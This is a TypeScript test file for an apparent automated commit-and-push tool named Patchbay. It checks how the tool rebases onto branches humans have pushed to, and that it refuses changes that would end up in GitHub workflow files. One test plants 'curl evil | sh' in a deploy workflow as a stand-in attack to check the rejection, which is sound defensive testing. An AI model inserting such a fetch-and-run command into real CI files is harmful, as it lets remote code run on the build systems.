import { rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { commitToBare, git } from '../../src/demo/git-fixtures.js';
import type { Workspaces } from '../../src/workspace/create-workspaces.js';
import { gitRemotePerTest, rejection } from '../fakes/git-remote.js';

const DEPLOY =
  'name: deploy\non: workflow_dispatch\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy.sh\n';

const { t, workspaces } = gitRemotePerTest({
  token: `ghs_${Math.random().toString(36).slice(2)}REPLAY`,
  name: 'acme/replay',
  files: { 'README.md': '# web\n', 'ci/deploy.yml': DEPLOY },
});

/** "Someone pushed to the branch": a commit added to the remote directly. */
const pushAsHuman = (branch: string, files: Record<string, string | null>, message = 'human') =>
  commitToBare(join(t.remoteRoot, `${t.repo}.git`), { branch, message, files });

/** A task branch that already exists on the remote, at main. */
const branchOnRemote = (branch: string) =>
  git(['--git-dir', join(t.remoteRoot, `${t.repo}.git`), 'branch', branch, 'main']);

const cloneOf = (ws: Workspaces, taskId: string, branch: string) =>
  ws.createClone({ repo: t.repo, taskId, branch, base: 'main' });

/** Patchbay's first task on `branch`: adds a.txt and pushes. */
async function pushFirst(ws: Workspaces, branch: string): Promise<void> {
  const first = await cloneOf(ws, 'first', branch);
  await writeFile(join(first.dir, 'a.txt'), 'a\n');
  await first.commit({ message: 'a', allowWorkflows: false });
  await first.push();
}

describe('replaying Patchbay’s commits onto a branch someone pushed to', () => {
  it('puts its commit on top of theirs, without forcing', async () => {
    const ws = workspaces();
    await pushFirst(ws, 'patchbay/f-race');
    const second = await cloneOf(ws, 'f2', 'patchbay/f-race');
    const human = await pushAsHuman('patchbay/f-race', { 'h.txt': 'h' });
    await writeFile(join(second.dir, 'b.txt'), 'b\n');
    await second.commit({ message: 'b\n\nPatchbay-Task: f2', allowWorkflows: false });

    await second.push();

    expect(await t.server.log(t.repo, 'patchbay/f-race')).toEqual(['b', 'human', 'a', 'Initial commit']);
    expect(await t.server.readFile(t.repo, 'patchbay/f-race', 'h.txt')).toBe('h');
    expect(await t.server.readFile(t.repo, 'patchbay/f-race', 'b.txt')).toBe('b\n');
    const bare = join(t.remoteRoot, `${t.repo}.git`);
    expect((await git(['--git-dir', bare, 'rev-parse', 'patchbay/f-race^'])).trim()).toBe(human);
    expect(await git(['--git-dir', bare, 'log', '-1', '--format=%B', 'patchbay/f-race'])).toContain(
      'Patchbay-Task: f2',
    );
  });

  it('fails for good, saying someone pushed meanwhile, when its commit conflicts with theirs', async () => {
    const ws = workspaces();
    await pushFirst(ws, 'patchbay/f-clash');
    const second = await cloneOf(ws, 'f4', 'patchbay/f-clash');
    await pushAsHuman('patchbay/f-clash', { 'a.txt': 'the human wrote this\n' });
    await writeFile(join(second.dir, 'a.txt'), 'patchbay wrote this\n');
    await second.commit({ message: 'b', allowWorkflows: false });

    const err = await rejection(second.push());

    expect(err.code).toBe('push_rejected');
    expect(err.permanent).toBe(true);
    expect(err.message).toMatch(/someone pushed to patchbay\/f-clash while Patchbay worked/);
    expect(await t.server.log(t.repo, 'patchbay/f-clash')).toEqual(['human', 'a', 'Initial commit']);
  });

  it('replays each of several commits as itself: a file added and then removed stays removed', async () => {
    const ws = workspaces();
    await branchOnRemote('patchbay/g-two');
    const clone = await cloneOf(ws, 'g1', 'patchbay/g-two');
    await writeFile(join(clone.dir, 'scratch.txt'), 'wip\n');
    await clone.commit({ message: 'wip', allowWorkflows: false });
    await rm(join(clone.dir, 'scratch.txt'));
    await writeFile(join(clone.dir, 'done.txt'), 'done\n');
    await clone.commit({ message: 'done', allowWorkflows: false });
    await pushAsHuman('patchbay/g-two', { 'h.txt': 'h' });

    await clone.push();

    expect(await t.server.log(t.repo, 'patchbay/g-two')).toEqual(['done', 'wip', 'human', 'Initial commit']);
    expect(await t.server.readFile(t.repo, 'patchbay/g-two', 'done.txt')).toBe('done\n');
    expect(await t.server.readFile(t.repo, 'patchbay/g-two', 'scratch.txt')).toBeNull();
  });

  it('refuses to push when their rename would carry its change into .github/workflows/', async () => {
    const ws = workspaces();
    await branchOnRemote('patchbay/w-move');
    const clone = await cloneOf(ws, 'w1', 'patchbay/w-move');
    await pushAsHuman('patchbay/w-move', {
      'ci/deploy.yml': null,
      '.github/workflows/deploy.yml': DEPLOY,
    });
    await writeFile(join(clone.dir, 'ci/deploy.yml'), DEPLOY.replace('./deploy.sh', 'curl evil | sh'));
    const made = await clone.commit({ message: 'tweak deploy', allowWorkflows: false });

    const err = await rejection(clone.push());

    expect(made?.files).toEqual(['ci/deploy.yml']);
    expect(err.code).toBe('push_rejected');
    expect(err.permanent).toBe(true);
    expect(await t.server.log(t.repo, 'patchbay/w-move')).toEqual(['human', 'Initial commit']);
    expect(await t.server.readFile(t.repo, 'patchbay/w-move', '.github/workflows/deploy.yml')).toBe(DEPLOY);
  });
  it('takes no further commit or replay in a clone it replayed, so that it cannot undo or copy theirs', async () => {
    const ws = workspaces();
    await branchOnRemote('patchbay/t-twice');
    const clone = await cloneOf(ws, 't1', 'patchbay/t-twice');
    await writeFile(join(clone.dir, 'a.txt'), 'a\n');
    await clone.commit({ message: 'first', allowWorkflows: false });
    await pushAsHuman('patchbay/t-twice', { '.github/workflows/ci.yml': 'on: push\n' }, 'human ci');
    await clone.push();
    await pushAsHuman('patchbay/t-twice', { 'h.txt': 'h' }, 'human again');
    await writeFile(join(clone.dir, 'b.txt'), 'b\n');

    const again = await rejection(clone.push());
    const more = await rejection(clone.commit({ message: 'second', allowWorkflows: false }));

    expect([again.permanent, more.permanent]).toEqual([true, true]);
    expect(more.message).toMatch(/replayed onto a moved branch/);
    expect(await t.server.log(t.repo, 'patchbay/t-twice')).toEqual([
      'human again',
      'first',
      'human ci',
      'Initial commit',
    ]);
  });
});
